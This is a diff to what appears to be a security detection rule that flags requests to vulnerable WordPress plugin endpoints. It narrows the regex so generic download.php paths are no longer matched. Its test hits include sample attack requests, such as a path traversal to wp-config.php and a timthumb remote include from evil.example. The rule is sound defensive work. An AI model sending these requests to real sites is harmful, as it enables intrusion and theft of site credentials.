@@ -45,13 +45,11 @@ export default defineRule({
       '/rightnow/',
       'force-download.php',
       'forcedownload.php',
-      'download.php',
       'upload.php',
       'uploads.php',
       'proxy.php',
       'uploadify.php',
       'uploader.php',
-      'downloader.php',
       'upload-file.php',
       'upload_file.php',
       'fileupload',
@@ -75,19 +73,20 @@ export default defineRule({
     ],
   ],
   match:
-    /action=(?:revslider_(?:show_image|ajax_action)|duplicator_download|um_get_members|formcraft3_get|wc_help_scout_upload_attachments|hurraki_tooltip_proxy|workreap_award_temp_file_uploader|aam-media-load|eventon_ics_download)|\/wp-file-manager\/lib\/php\/connector|\/wp-automatic\/inc\/csv\.php|wp_automatic=download|\/(?:tim)?thumb\.php\?(?:[^\n]{0,100}&)?src=https?:\/\/|\/bricks\/v1\/render_element|rest_route=\/(?:batch\/v1|wp\/v2\/users|bricks\/|pmpro\/v1\/order)|\/wp-json\/batch\/v1|\/wpdiscuz-ajax\.php|\/ait-csv-import-export\/admin\/upload-handler|\/backup-backup\/includes\/backup-heart\.php|\/simple-file-list\/ee-(?:upload|file)-engine\.php|\/wp-content\/(?:plugins|themes)\/[\w-]{1,60}\/[\w./-]{0,100}(?:(?:force-?)?download(?:er)?|get_remote_data|file[-_]?download|upload(?:s|er|ify|[-_]file)?|file-?upload|proxy|ajax[-_]?upload)\.php(?:$|\?)/i,
+    /action=(?:revslider_(?:show_image|ajax_action)|duplicator_download|um_get_members|formcraft3_get|wc_help_scout_upload_attachments|hurraki_tooltip_proxy|workreap_award_temp_file_uploader|aam-media-load|eventon_ics_download)|\/wp-file-manager\/lib\/php\/connector|\/wp-automatic\/inc\/csv\.php|wp_automatic=download|\/(?:tim)?thumb\.php\?(?:[^\n]{0,100}&)?src=https?:\/\/|\/bricks\/v1\/render_element|rest_route=\/(?:batch\/v1|wp\/v2\/users|bricks\/|pmpro\/v1\/order)|\/wp-json\/batch\/v1|\/wpdiscuz-ajax\.php|\/ait-csv-import-export\/admin\/upload-handler|\/backup-backup\/includes\/backup-heart\.php|\/simple-file-list\/ee-(?:upload|file)-engine\.php|\/wp-content\/(?:plugins|themes)\/[\w-]{1,60}\/[\w./-]{0,100}(?:force-?download|get_remote_data|file[-_]?download|upload(?:s|er|ify|[-_]file)?|file-?upload|proxy|ajax[-_]?upload)\.php(?:$|\?)/i,
 
   hits: [
     'GET /wp-admin/admin-ajax.php?action=revslider_show_image&img=../wp-config.php HTTP/1.1',
     'POST /wp-content/plugins/wp-automatic/inc/csv.php HTTP/1.1',
     'POST /wp-json/bricks/v1/render_element HTTP/1.1',
     'GET /wp-content/themes/x/timthumb.php?src=http://evil.example/a.php HTTP/1.1',
-    'GET /wp-content/plugins/x/lib/download.php?f=a HTTP/1.1',
+    'GET /wp-content/plugins/x/lib/force-download.php?f=a HTTP/1.1',
   ],
   misses: [
     'GET /wp-admin/admin-ajax.php?action=heartbeat HTTP/1.1',
     'GET /wp-content/plugins/contact-form-7/includes/js/index.js HTTP/1.1',
     'GET /wp-json/wp/v2/posts HTTP/1.1',
+    'GET /wp-content/plugins/files/download.php?id=3 HTTP/1.1',
     'GET /wp-content/themes/x/timthumb.php?src=/img/a.jpg HTTP/1.1',
   ],
 })
